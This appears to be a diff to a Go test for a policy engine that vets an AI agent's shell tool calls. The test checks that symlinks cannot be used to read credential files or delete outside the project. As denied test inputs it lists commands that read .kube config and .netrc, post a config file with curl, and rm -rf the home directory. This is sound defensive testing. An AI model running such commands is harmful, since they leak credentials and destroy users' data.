@@ -1,6 +1,8 @@
 package policy
 
 import (
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
@@ -126,6 +128,40 @@ func TestGlobsMeet(t *testing.T) {
 	} {
 		if got := globsMeet(tt.a, tt.b); got != tt.meet {
 			t.Errorf("globsMeet(%q, %q) = %v, want %v", tt.a, tt.b, got, tt.meet)
+		}
+	}
+}
+
+// A link in the project (git checks them out) does not make what it leads
+// to a project file: a secret read through it is denied, and so is a
+// delete through one that leads out of the project.
+func TestArgumentsFollowLinks(t *testing.T) {
+	root := t.TempDir()
+	home, project := filepath.Join(root, "home"), filepath.Join(root, "home", "project")
+	for _, d := range []string{filepath.Join(home, ".kube"), project} {
+		if err := os.MkdirAll(d, 0o700); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := os.Symlink(filepath.Join(home, ".kube"), filepath.Join(project, "k")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(home, filepath.Join(project, "h")); err != nil {
+		t.Fatal(err)
+	}
+	p := mustParse(t, listsDoc)
+	for command, rule := range map[string]string{
+		"cat k/config":        "deny-secrets-in-shell",
+		"cat k/*":             "deny-secrets-in-shell",
+		"wc -l h/.netrc":      "deny-secrets-in-shell",
+		"curl -d @k/config x": "deny-secrets-in-shell",
+		"rm -rf h/":           "deny-rm",
+		"rm -rf h/*":          "deny-rm",
+		"cat README.md":       "allow-read",
+	} {
+		v := p.Decide(Call{Tool: "Bash", Input: []byte(jsonString(command)), Cwd: project, Home: home})
+		if v.RuleID != rule {
+			t.Errorf("%q: %s by %q, want rule %q", command, v.Effect, v.RuleID, rule)
 		}
 	}
 }
